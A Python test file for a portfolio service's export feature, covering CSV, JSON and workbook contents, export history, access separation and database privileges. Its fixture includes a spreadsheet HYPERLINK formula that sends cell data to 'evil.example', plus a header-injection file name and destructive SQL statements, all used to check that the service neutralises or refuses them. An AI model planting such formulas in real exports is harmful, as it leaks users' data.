"""Portfolios as files, and the history of exports, through the service as it is wired."""

import asyncio
import csv
import hashlib
import io
import json

import asyncpg
import grpc
import pytest
from openpyxl import load_workbook

from plimsoll.portfolio.v1.cash_movement_pb2 import CashMovement
from plimsoll.portfolio.v1.cash_service_pb2 import CreateCashMovementRequest, PutCashBalancesRequest
from plimsoll.portfolio.v1.export_service_pb2 import ExportPortfolioRequest, ListExportsRequest
from plimsoll.portfolio.v1.portfolio_service_pb2 import DeletePortfolioRequest
from plimsoll.portfolio.v1.risk_settings_service_pb2 import PutRiskLimitsRequest
from services.portfolio.domain.exports.contents_table import COLUMNS
from tests.services.portfolio.books import NO_SUCH, enter_all, make, new
from tests.services.portfolio.conftest import Client, refused

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def filled(client: Client, name: str = "Growth") -> str:
    """A portfolio with something of everything: its id."""
    portfolio_id = (await make(client, name)).portfolio_id
    await enter_all(
        client,
        portfolio_id,
        new("AAPL", 10.125, tags=["core", FORMULA], strategy="+momentum"),
        new("JPM", -50, exit_date="2022-06-01", exit_price=99.5, tags=["@short"]),
        new("AAPL230120P00150000", -4, entry_price=1.2),
        new("AAPL", 10.125, entry_price=0.1234567890123456),
    )
    balances = {"USD": -5078.62, "EUR": 10.0}
    request = PutCashBalancesRequest(portfolio_id=portfolio_id, balances=balances, balance_date="2022-12-27")
    await client.cash.PutCashBalances(request)
    movement = CashMovement(kind=CashMovement.FEE, currency="USD", amount=-12.5, movement_date="2022-12-20")
    fields = {"kind": movement.kind, "currency": "USD", "amount": -12.5, "movement_date": movement.movement_date}
    await client.cash.CreateCashMovement(
        CreateCashMovementRequest(portfolio_id=portfolio_id, symbol="JPM", note="-borrow fee", **fields)
    )
    await client.settings.PutRiskLimits(PutRiskLimitsRequest(portfolio_id=portfolio_id, limits={"max_loss": -0.5}))
    return portfolio_id


async def exported(client: Client, portfolio_id: str, kind: str = "", **fields: object) -> bytes:
    answer = await client.exports.ExportPortfolio(
        ExportPortfolioRequest(portfolio_id=portfolio_id, format=kind, **fields)  # type: ignore[arg-type]
    )
    return answer.data


def table(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


async def test_a_csv_holds_positions_closed_ones_cash_and_movements_with_every_digit(alice):
    content = await exported(alice, await filled(alice))
    assert content.decode().splitlines()[0].split(",") == list(COLUMNS)
    rows = [{name: value for name, value in row.items() if value} for row in table(content)]
    assert rows[0] == {
        "Symbol": "AAPL",
        "Quantity": "10.125",
        "Entry Price Per Share": "100",
        "Entry Date": "2022-01-03",
        "Investment Class": "PUBLIC",
        "Tags": "core;'" + FORMULA,
        "Strategy": "'+momentum",
    }
    assert (rows[1]["Quantity"], rows[1]["Exit Date"], rows[1]["Exit Price Per Share"]) == ("-50", "2022-06-01", "99.5")
    option = {"Underlying Symbol": "AAPL", "Strike Price": "150", "Expiration Date": "2023-01-20"}
    assert rows[2].items() >= (option | {"Option Type": "PUT", "Investment Class": "OPTIONS"}).items()
    assert rows[3]["Entry Price Per Share"] == "0.1234567890123456"
    cash = [(row["Symbol"], row["Quantity"], row["Entry Date"]) for row in rows[4:6]]
    assert cash == [("CUR:EUR", "10", "2022-12-27"), ("CUR:USD", "-5078.62", "2022-12-27")]
    movement = {"Quantity": "-12.5", "Investment Subtype": "FEE", "Underlying Symbol": "JPM", "Note": "'-borrow fee"}
    assert rows[6].items() >= movement.items()


async def test_sections_are_chosen_with_commas_or_one_by_one(alice):
    portfolio_id = await filled(alice)
    only = table(await exported(alice, portfolio_id, sections=["closed_positions,cash"]))
    assert [row["Symbol"] for row in only] == ["JPM", "CUR:EUR", "CUR:USD"]
    document = json.loads(await exported(alice, portfolio_id, "json", sections=["risk_limits", "cash"]))
    assert list(document) == ["portfolio", "cash", "risk_limits"]
    assert document["risk_limits"]["limits"]["max_loss"] == -0.5
    refusal = await refused(exported(alice, portfolio_id, sections=["positions", "risk_limits"]))
    assert refusal.code == grpc.StatusCode.INVALID_ARGUMENT
    assert "'risk_limits' is none of positions, closed_positions, cash, cash_movements (csv)" in refusal.message


async def test_json_numbers_are_as_stored(alice):
    content = await exported(alice, await filled(alice), "json")
    assert b'"entry_price": 0.1234567890123456' in content
    document = json.loads(content)
    assert [p["symbol"] for p in document["positions"]] == ["AAPL", "AAPL230120P00150000", "AAPL"]
    assert document["positions"][0]["tags"] == ["core", FORMULA]
    assert document["closed_positions"][0]["exit_price"] == 99.5
    assert document["cash_map"]["alias_to_currency"]["CUR:USD"] == "USD"


async def test_a_workbook_has_the_same_table_and_no_formula(alice):
    portfolio_id = await filled(alice)
    book = load_workbook(io.BytesIO(await exported(alice, portfolio_id, "xlsx")))
    titles = ["Positions and cash", "Portfolio", "Risk limits", "Factor proxies", "Expected returns", "Cash map"]
    assert book.sheetnames == titles
    cells = [cell for sheet in book for row in sheet for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert all(cell.quotePrefix for cell in cells if cell.data_type == "s")
    first = book.worksheets[0]
    assert [cell.value for cell in first[1]] == list(COLUMNS)
    assert (first["M2"].value, first["N2"].value) == (f"core;{FORMULA}", "+momentum"), "as stated: it is text"
    assert (first["B2"].value, first["C5"].value) == (10.125, "0.1234567890123456"), "16 digits are kept as text"


async def test_control_characters_do_not_break_a_workbook(alice):
    portfolio_id = (await make(alice)).portfolio_id
    await enter_all(alice, portfolio_id, new(strategy="bell\x07"))
    book = load_workbook(io.BytesIO(await exported(alice, portfolio_id, "xlsx")))
    assert book.worksheets[0]["N2"].value == "bell\ufffd"


async def test_an_earlier_revision_is_as_it_was(alice):
    portfolio_id = await filled(alice)
    assert table(await exported(alice, portfolio_id, portfolio_revision=1)) == []


async def test_the_file_is_named_for_the_portfolio_and_nothing_in_a_name_gets_into_the_header(alice):
    portfolio_id = (await make(alice, 'Long/"short"\t; filename=x')).portfolio_id
    call = alice.exports.ExportPortfolio(ExportPortfolioRequest(portfolio_id=portfolio_id))
    await call
    headers = dict(await call.initial_metadata())
    assert headers["content-disposition"] == 'attachment; filename="long-short-filename-x.csv"'


async def test_the_history_outlives_the_portfolio_and_tells_files_by_their_hash(alice):
    portfolio_id = await filled(alice)
    files = [await exported(alice, portfolio_id, kind) for kind in ("csv", "json", "yaml")]
    await alice.portfolios.DeletePortfolio(DeletePortfolioRequest(portfolio_id=portfolio_id))
    found = (await alice.exports.ListExports(ListExportsRequest(portfolio_id=portfolio_id))).exports
    assert [(e.format, e.sha256, e.byte_count) for e in reversed(found)] == [
        (kind, hashlib.sha256(content).hexdigest(), len(content))
        for kind, content in zip(("csv", "json", "yaml"), files, strict=True)
    ]
    assert list(found[0].sections) == ["portfolio", "risk_limits", "cash_map"]


async def test_the_history_has_pages_and_is_ones_own(alice, mallory):
    portfolio_id = await filled(alice)
    await asyncio.gather(*(exported(alice, portfolio_id) for _ in range(5)))
    seen, token = [], ""
    while True:
        page = await alice.exports.ListExports(ListExportsRequest(page_size=2, page_token=token))
        assert len(page.exports) <= 2
        seen += [export.export_id for export in page.exports]
        if not (token := page.next_page_token):
            break
    assert len(set(seen)) == 5
    assert list((await mallory.exports.ListExports(ListExportsRequest())).exports) == []
    refusal = await refused(exported(mallory, portfolio_id))
    absent = await refused(exported(mallory, NO_SUCH))
    assert (refusal.code, refusal.message.replace(portfolio_id, "")) == (
        absent.code,
        absent.message.replace(NO_SUCH, ""),
    )


@pytest.mark.parametrize("statement", ["DELETE FROM exports", "UPDATE exports SET sha256 = ''", "TRUNCATE exports"])
async def test_the_service_cannot_change_the_history(alice, settings, statement: str):
    await exported(alice, await filled(alice))
    connection = await asyncpg.connect(str(settings.database_url))
    try:
        await connection.execute("SET ROLE portfolio_app; SET search_path = portfolio")
        with pytest.raises(asyncpg.InsufficientPrivilegeError):
            await connection.execute(statement)
    finally:
        await connection.close()
